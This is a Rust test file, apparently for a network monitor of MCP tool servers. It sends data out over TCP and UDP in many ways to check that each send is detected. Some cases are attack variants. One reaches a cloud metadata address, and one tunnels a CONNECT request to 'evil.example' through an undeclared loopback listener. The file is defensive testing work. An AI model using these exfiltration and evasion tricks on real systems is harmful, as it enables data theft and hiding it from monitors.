//! Sending data out over the internet protocols.

use std::{
    io::{Read, Write},
    net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket},
    os::fd::{AsRawFd, OwnedFd},
    time::Duration,
};

use anyhow::{Result, bail};
use mcp_monitor_tests::{
    act::Act,
    world::{METADATA, PORT},
};

use crate::{
    case::{Case, Context, case, not_run, sent_to},
    sockets::{self, Address, done},
};

/// The cases of this file.
pub(crate) const CASES: &[Case] = &[
    case("tcp4", |context| tcp((context.four(), PORT).into())),
    case("tcp6", |context| tcp((context.six(), PORT).into())),
    case("tcp-mapped", tcp_mapped),
    case("tcp-refused", tcp_refused),
    case("udp-sendto", |context| udp(context, |socket, to| Ok(socket.send_to(HELLO, to).map(drop)?))),
    case("udp6-sendto", udp6),
    case("udp-connect", udp_connect),
    case("udp-sendmsg", |context| udp(context, sendmsg)),
    case("udp-sendmmsg", |context| udp(context, sendmmsg)),
    case("udp-mapped", udp_mapped),
    case("metadata", metadata),
    case("loopback-proxy", loopback_proxy),
];

const HELLO: &[u8] = b"hello, outside";

fn tcp(to: SocketAddr) -> Result<Vec<Act>> {
    let socket = match TcpStream::connect(to) {
        Ok(socket) => OwnedFd::from(socket),
        Err(error) if to.is_ipv6() => return not_run(format!("no IPv6 here: {error}")),
        Err(error) => return Err(error.into()),
    };
    sockets::echo(&socket)?;
    sent_to("tcp", to.ip(), PORT)
}

/// An IPv4 destination in IPv6 clothes: the event must name the IPv4 one.
fn tcp_mapped(context: &Context) -> Result<Vec<Act>> {
    let Ok(socket) = sockets::socket(libc::AF_INET6, libc::SOCK_STREAM, 0) else {
        return not_run("no IPv6 here");
    };
    sockets::connect(&socket, &Address::from((context.four().to_ipv6_mapped(), PORT)))?;
    sockets::echo(&socket)?;
    sent_to("tcp", context.four(), PORT)
}

/// Nobody listens; without waiting: an attempt is one all the same.
fn tcp_refused(context: &Context) -> Result<Vec<Act>> {
    let socket = sockets::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    // The twin's destination is declared with its port, so it goes there, and the attack to a closed port.
    let port = if context.benign { PORT } else { 9 };
    match sockets::connect(&socket, &Address::from((context.four(), port))) {
        Err(error) if [Some(libc::EINPROGRESS), Some(libc::ECONNREFUSED)].contains(&error.raw_os_error()) => {
        }
        Err(error) => return Err(error.into()),
        Ok(()) if context.benign => {}
        Ok(()) => bail!("somebody listens there"),
    }
    sent_to("tcp", context.four(), port)
}

/// Sends by `send` and waits for the answer: the datagram arrived.
fn udp(context: &Context, send: fn(&UdpSocket, SocketAddr) -> Result<()>) -> Result<Vec<Act>> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    send(&socket, (context.four(), PORT).into())?;
    answered(&socket)?;
    sent_to("udp", context.four(), PORT)
}

fn answered(socket: &UdpSocket) -> Result<()> {
    socket.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut heard = [0; 64];
    let length = socket.recv(&mut heard)?;
    if &heard[..length] != HELLO {
        bail!("the outside world did not answer");
    }
    Ok(())
}

fn udp6(context: &Context) -> Result<Vec<Act>> {
    let Ok(socket) = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)) else { return not_run("no IPv6 here") };
    socket.send_to(HELLO, (context.six(), PORT))?;
    answered(&socket)?;
    sent_to("udp", context.six(), PORT)
}

fn udp_mapped(context: &Context) -> Result<Vec<Act>> {
    let Ok(socket) = sockets::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0) else {
        return not_run("no IPv6 here");
    };
    let address = Address::from((context.four().to_ipv6_mapped(), PORT));
    // SAFETY: message and address are as long as they say.
    done(unsafe {
        let (pointer, length) = (address.pointer(), address.length());
        libc::sendto(socket.as_raw_fd(), HELLO.as_ptr().cast(), HELLO.len(), 0, pointer, length)
    })?;
    answered(&UdpSocket::from(socket))?;
    sent_to("udp", context.four(), PORT)
}

fn udp_connect(context: &Context) -> Result<Vec<Act>> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.connect((context.four(), PORT))?;
    socket.send(HELLO)?;
    answered(&socket)?;
    sent_to("udp", context.four(), PORT)
}

/// Calls with a message header for one datagram.
fn with_message<T>(to: SocketAddr, call: impl FnOnce(&mut libc::msghdr) -> T) -> T {
    let address = Address::from((to.ip(), to.port()));
    let mut part = libc::iovec { iov_base: HELLO.as_ptr().cast_mut().cast(), iov_len: HELLO.len() };
    let mut message = sockets::message();
    message.msg_name = address.pointer().cast_mut().cast();
    message.msg_namelen = address.length();
    message.msg_iov = &raw mut part;
    message.msg_iovlen = 1;
    call(&mut message)
}

fn sendmsg(socket: &UdpSocket, to: SocketAddr) -> Result<()> {
    // SAFETY: the message lives for the call.
    done(with_message(to, |message| unsafe { libc::sendmsg(socket.as_raw_fd(), message, 0) }))?;
    Ok(())
}

fn sendmmsg(socket: &UdpSocket, to: SocketAddr) -> Result<()> {
    let sent = with_message(to, |message| {
        let mut many = libc::mmsghdr { msg_hdr: *message, msg_len: 0 };
        // SAFETY: one message that lives for the call.
        unsafe { libc::sendmmsg(socket.as_raw_fd(), &raw mut many, 1, 0) }
    });
    if sent == 1 { Ok(()) } else { bail!("sendmmsg: {}", std::io::Error::last_os_error()) }
}

fn metadata(context: &Context) -> Result<Vec<Act>> {
    let address = if context.benign { Ipv4Addr::LOCALHOST } else { METADATA };
    let socket = OwnedFd::from(TcpStream::connect((address, PORT))?);
    sockets::echo(&socket)?;
    sent_to("tcp", address, PORT)
}

/// Data leaves through a listener on loopback that is nobody's of this workload and was not declared.
fn loopback_proxy(context: &Context) -> Result<Vec<Act>> {
    // All of 127.0.0.0/8 reaches the outside world's listener; only 127.0.0.1 is declared.
    let address = if context.benign { Ipv4Addr::LOCALHOST } else { Ipv4Addr::new(127, 0, 0, 2) };
    let mut socket = TcpStream::connect((address, PORT))?;
    let request = b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n";
    socket.write_all(request)?;
    let mut heard = vec![0; request.len()];
    socket.read_exact(&mut heard)?;
    sent_to("tcp", address, PORT)
}
